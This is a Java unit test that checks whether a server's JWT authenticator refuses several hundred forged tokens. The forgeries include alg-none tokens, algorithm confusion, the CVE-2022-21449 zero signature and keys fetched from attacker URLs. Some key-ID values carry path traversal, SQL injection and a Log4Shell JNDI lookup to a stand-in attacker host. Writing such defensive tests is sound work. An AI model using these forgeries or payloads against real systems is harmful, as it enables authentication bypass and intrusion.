package dev.patchbay.server.identity;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.patchbay.model.Json;
import dev.patchbay.model.Role;
import dev.patchbay.server.Setting;
import dev.patchbay.server.TestServer;
import dev.patchbay.server.access.Principal;
import dev.patchbay.server.access.Refusal;
import io.jsonwebtoken.Jwts;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.PrivateKey;
import java.security.Signature;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Consumer;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/// R11: tokens that look like ours and are not, in the manner of Project Wycheproof's JWS cases and RFC 8725. Prints
/// how many there were and how many were let in.
class ForgedTokensTest {
    private static final String SECRET = "the installation's own signing secret, which nobody else knows";
    private static final Base64.Encoder BASE64 = Base64.getUrlEncoder().withoutPadding();

    private static TestServer server;
    private static TestServer.TestUser admin;
    private static TestServer.TestUser agent;
    private static String token;
    private static ObjectNode header;
    private static ObjectNode claims;

    private final Map<String, String> forged = new LinkedHashMap<>();

    @BeforeAll
    static void start() {
        server = TestServer.builder().with(Setting.JWT_SECRET, SECRET).start();
        TestServer.TestCompany acme = server.company("Acme");
        admin = acme.user(Role.ADMIN);
        agent = acme.user(Role.AGENT);
        token = agent.token();
        header = part(0);
        claims = part(1);
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    private static ObjectNode part(int number) {
        String text = new String(Base64.getUrlDecoder().decode(token.split("\\.")[number]), StandardCharsets.UTF_8);
        return Json.read(text, ObjectNode.class);
    }

    private static String encode(String text) {
        return BASE64.encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String hmac(String algorithm, byte[] key, String text) {
        try {
            Mac mac = Mac.getInstance(algorithm);
            mac.init(new SecretKeySpec(key.length == 0 ? new byte[1] : key, algorithm));
            return BASE64.encodeToString(mac.doFinal(text.getBytes(StandardCharsets.UTF_8)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String signature(String algorithm, PrivateKey key, String text) {
        try {
            Signature signature = Signature.getInstance(algorithm);
            signature.initSign(key);
            signature.update(text.getBytes(StandardCharsets.UTF_8));
            return BASE64.encodeToString(signature.sign());
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    /// Another letter that says the same: the last of 43 holds two bits that count for nothing.
    private static char strayBits(char last) {
        String letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        return letters.charAt(letters.indexOf(last) ^ 1);
    }

    private static KeyPair ed25519() {
        try {
            return java.security.KeyPairGenerator.getInstance("Ed25519").generateKeyPair();
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] ours() {
        return SECRET.getBytes(StandardCharsets.UTF_8);
    }

    private static String signed(String head, String body) {
        String text = encode(head) + "." + encode(body);
        return text + "." + hmac("HmacSHA256", ours(), text);
    }

    private static String withHeader(Consumer<ObjectNode> change) {
        ObjectNode changed = header.deepCopy();
        change.accept(changed);
        return signed(changed.toString(), claims.toString());
    }

    private static String withClaims(Consumer<ObjectNode> change) {
        ObjectNode changed = claims.deepCopy();
        change.accept(changed);
        return signed(header.toString(), changed.toString());
    }

    private void add(String what, String text) {
        forged.put(what + " #" + forged.size(), text);
    }

    private static boolean accepted(@Nullable String text) {
        try {
            server.identity().authenticator().authenticate(String.valueOf(text));
            return true;
        } catch (Refusal refusal) {
            assertThat(refusal.status()).isEqualTo(401);
            return false;
        }
    }

    @Test
    void noForgedTokenIsLetInAndEveryTrueOneIs() {
        algorithms();
        keysFromTheToken();
        keyIds();
        types();
        claimsThatAreNotRight();
        structure();
        flippedBits();
        List<String> letIn = new ArrayList<>();
        forged.forEach((what, text) -> {
            if (accepted(text)) {
                letIn.add(what);
            }
        });
        List<String> valid = List.of(
                token,
                signed(header.toString(), claims.toString()),
                withClaims(changed -> changed.put("unknown", "claim")),
                withClaims(
                        changed -> changed.put("nbf", server.clock().instant().getEpochSecond())));
        long right = valid.stream().filter(ForgedTokensTest::accepted).count();
        System.out.printf(
                "R11: %d of %d forged tokens refused, %d of %d true ones accepted%n",
                forged.size() - letIn.size(), forged.size(), right, valid.size());
        assertThat(letIn).isEmpty();
        assertThat(right).isEqualTo(valid.size());
        assertThat(forged).hasSizeGreaterThan(355);
    }

    private void algorithms() {
        String body = encode(claims.toString());
        for (String none : List.of("none", "None", "NONE", "nOnE", "", " none", "none ", "null")) {
            for (String type : List.of("at+jwt", "JWT")) {
                ObjectNode changed = header.deepCopy().put("alg", none).put("typ", type);
                String text = encode(changed.toString()) + "." + body;
                add("alg " + none + ", no signature", text + ".");
                add("alg " + none + ", old signature", text + "." + token.split("\\.")[2]);
                add("alg " + none + ", our key", text + "." + hmac("HmacSHA256", ours(), text));
                add("alg " + none + ", two parts", text);
            }
        }
        for (String other : List.of("HS384", "HS512", "hs256", "Hs256", "HS256 ", "HMAC", "HS1")) {
            String mac = other.contains("384") ? "HmacSHA384" : other.contains("512") ? "HmacSHA512" : "HmacSHA256";
            String text = encode(header.deepCopy().put("alg", other).toString()) + "." + body;
            add("alg " + other + " with our key", text + "." + hmac(mac, ours(), text));
        }
        KeyPair rsa = Jwts.SIG.RS256.keyPair().build();
        KeyPair ec = Jwts.SIG.ES256.keyPair().build();
        KeyPair ed = ed25519();
        for (String name : List.of("RS256", "RS384", "RS512", "PS256")) {
            String text = encode(header.deepCopy().put("alg", name).toString()) + "." + body;
            add("alg " + name, text + "." + signature("SHA256withRSA", rsa.getPrivate(), text));
        }
        String text = encode(header.deepCopy().put("alg", "ES256").toString()) + "." + body;
        add("alg ES256", text + "." + signature("SHA256withECDSAinP1363Format", ec.getPrivate(), text));
        add("ES256, all zero (CVE-2022-21449)", text + "." + BASE64.encodeToString(new byte[64]));
        text = encode(header.deepCopy().put("alg", "EdDSA").toString()) + "." + body;
        add("alg EdDSA", text + "." + signature("EdDSA", ed.getPrivate(), text));
        String plain = token.substring(0, token.lastIndexOf('.'));
        byte[] der = rsa.getPublic().getEncoded();
        String pem = "-----BEGIN PUBLIC KEY-----\n" + Base64.getMimeEncoder().encodeToString(der)
                + "\n-----END PUBLIC KEY-----\n";
        add("HS256 with a public key, DER", plain + "." + hmac("HmacSHA256", der, plain));
        add(
                "HS256 with a public key, PEM",
                plain + "." + hmac("HmacSHA256", pem.getBytes(StandardCharsets.UTF_8), plain));
        for (String weak : List.of("", "secret", "password", "changeme", "your-256-bit-secret", SECRET + " ")) {
            add(
                    "HS256 with the key '" + weak.length() + "'",
                    plain + "." + hmac("HmacSHA256", weak.getBytes(StandardCharsets.UTF_8), plain));
        }
    }

    /// The token must never say with which key it is to be verified.
    private void keysFromTheToken() {
        byte[] own = "an attacker's own key that is long enough for it".getBytes(StandardCharsets.UTF_8);
        ObjectNode jwk = Json.MAPPER.createObjectNode().put("kty", "oct").put("k", BASE64.encodeToString(own));
        for (String name : List.of("jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256")) {
            for (boolean keepId : List.of(true, false)) {
                ObjectNode changed = header.deepCopy();
                if (name.equals("jwk")) {
                    changed.set(name, jwk);
                } else if (name.equals("x5c")) {
                    changed.putArray(name).add(Base64.getEncoder().encodeToString(own));
                } else {
                    changed.put(name, "https://attacker.test/keys.json");
                }
                if (!keepId) {
                    changed.put("kid", "attacker");
                }
                String text = encode(changed.toString()) + "." + encode(claims.toString());
                add(name + " with the attacker's key", text + "." + hmac("HmacSHA256", own, text));
            }
        }
    }

    private void keyIds() {
        for (String id : List.of(
                "",
                " ",
                "unknown",
                "../../../../dev/null",
                "/dev/null",
                "jwt-secret",
                "x' union select 'secret' --",
                "${jndi:ldap://attacker.test/a}",
                "\u0000",
                "0",
                "null")) {
            String text = encode(header.deepCopy().put("kid", id).toString()) + "." + encode(claims.toString());
            add("kid '" + id + "', empty key", text + "." + hmac("HmacSHA256", new byte[0], text));
            add("kid '" + id + "', our key", text + "." + hmac("HmacSHA256", ours(), text));
        }
        add("no kid", withHeader(changed -> changed.remove("kid")));
        add("kid null", withHeader(changed -> changed.putNull("kid")));
        add("kid a number", withHeader(changed -> changed.put("kid", 1)));
        add("kid a list", withHeader(changed -> changed.putArray("kid")
                .add(header.get("kid").asText())));
    }

    private void types() {
        for (String type : List.of("JWT", "jwt", "JOSE", "dpop+jwt", "logout+jwt", "secevent+jwt", "at+jwt ", "")) {
            add("typ " + type, withHeader(changed -> changed.put("typ", type)));
        }
        add("no typ", withHeader(changed -> changed.remove("typ")));
        add("typ a number", withHeader(changed -> changed.put("typ", 7)));
        add("crit unknown", withHeader(changed -> changed.putArray("crit").add("exp")));
        add("crit empty", withHeader(changed -> changed.putArray("crit")));
        add("not encoded payload", withHeader(changed -> {
            changed.put("b64", false);
            changed.putArray("crit").add("b64");
        }));
        add("compressed", withHeader(changed -> changed.put("zip", "DEF")));
        add("compressed, unknown", withHeader(changed -> changed.put("zip", "BOMB")));
    }

    private void claimsThatAreNotRight() {
        long now = server.clock().instant().getEpochSecond();
        for (String name : List.of("iss", "aud", "sub", "company", "sid", "exp")) {
            add("no " + name, withClaims(changed -> changed.remove(name)));
            add(name + " null", withClaims(changed -> changed.putNull(name)));
            add(name + " empty", withClaims(changed -> changed.put(name, "")));
            add(name + " a truth", withClaims(changed -> changed.put(name, true)));
            add(name + " an object", withClaims(changed -> changed.putObject(name)));
            add(name + " other", withClaims(changed -> changed.put(name, "other")));
            add(
                    name + " a list",
                    withClaims(changed -> changed.putArray(name).add("a").add("b")));
            add(
                    name + " a random id",
                    withClaims(changed -> changed.put(name, UUID.randomUUID().toString())));
        }
        for (String audience : List.of("visitor", "live", "User", "user ", "admin")) {
            add("aud " + audience, withClaims(changed -> changed.put("aud", audience)));
            add("aud list " + audience, withClaims(changed -> changed.putArray("aud")
                    .add(audience)));
            add(
                    "aud user and " + audience,
                    withClaims(changed -> changed.putArray("aud").add("user").add(audience)));
        }
        for (long time : new long[] {0, 1, -1, now - 1, now - 900, Long.MIN_VALUE}) {
            add("exp " + time, withClaims(changed -> changed.put("exp", time)));
        }
        for (long time : new long[] {now + 1, now + 60, now + 900, now * 1000}) {
            add("nbf " + time, withClaims(changed -> changed.put("nbf", time)));
        }
        add(
                "somebody else's id",
                withClaims(changed -> changed.put("sub", admin.id().toString())));
        String session = ((Principal.User) server.identity().authenticator().authenticate(admin.token()))
                .session()
                .toString();
        add("somebody else's session", withClaims(changed -> changed.put("sid", session)));
        TestServer.TestUser foreign =
                server.company("Foreign " + UUID.randomUUID()).user(Role.ADMIN);
        add(
                "another company",
                withClaims(
                        changed -> changed.put("company", foreign.company().id().toString())));
        TestServer.TestUser gone = agent.again();
        gone.http().post("/auth/logout");
        add("a session that ended", gone.token());
        add("a refresh token", agent.tokens().refreshToken());
    }

    private void structure() {
        String[] parts = token.split("\\.");
        String all = header.toString() + claims;
        for (String text : List.of(
                "",
                ".",
                "..",
                "...",
                parts[0],
                parts[0] + ".",
                parts[0] + "." + parts[1],
                parts[0] + ".." + parts[2],
                "." + parts[1] + "." + parts[2],
                token + ".",
                token + "." + parts[2],
                "." + token,
                token + "=",
                token + "A",
                token + " x",
                token.substring(0, token.length() - 1) + strayBits(token.charAt(token.length() - 1)),
                parts[1] + "." + parts[0] + "." + parts[2],
                parts[0] + "." + parts[1] + "." + parts[1],
                parts[0] + "." + parts[1] + "." + parts[2] + ".." + parts[2],
                token.replace('.', ','),
                token + token,
                all,
                "{\"payload\":\"" + parts[1] + "\",\"protected\":\"" + parts[0] + "\",\"signature\":\"" + parts[2]
                        + "\"}",
                "Bearer " + token,
                "pbk_" + token)) {
            add("structure", text);
        }
        for (int cut = 1; cut < parts[2].length(); cut += 3) {
            add("a signature cut short", parts[0] + "." + parts[1] + "." + parts[2].substring(0, cut));
        }
        for (String body : List.of("", "null", "[]", "1", "\"text\"", "{", "{}", "{\"sub\":}", "\u0000")) {
            add("payload " + body, signed(header.toString(), body));
            add("header " + body, signed(body, claims.toString()));
        }
        String twice = claims.toString().replaceFirst("\\{", "{\"sub\":\"" + admin.id() + "\",");
        add("unsigned second subject", parts[0] + "." + encode(twice) + "." + parts[2]);
    }

    /// One bit at a time: of the signature all, of header and payload every third.
    private void flippedBits() {
        String[] parts = token.split("\\.");
        for (int part = 0; part < 3; part++) {
            byte[] bytes = Base64.getUrlDecoder().decode(parts[part]);
            for (int bit = 0; bit < bytes.length * 8; bit += part == 2 ? 1 : 3) {
                byte[] changed = bytes.clone();
                changed[bit / 8] ^= (byte) (1 << bit % 8);
                String[] flipped = parts.clone();
                flipped[part] = BASE64.encodeToString(changed);
                add("bit " + bit + " of part " + part, String.join(".", flipped));
            }
        }
    }
}
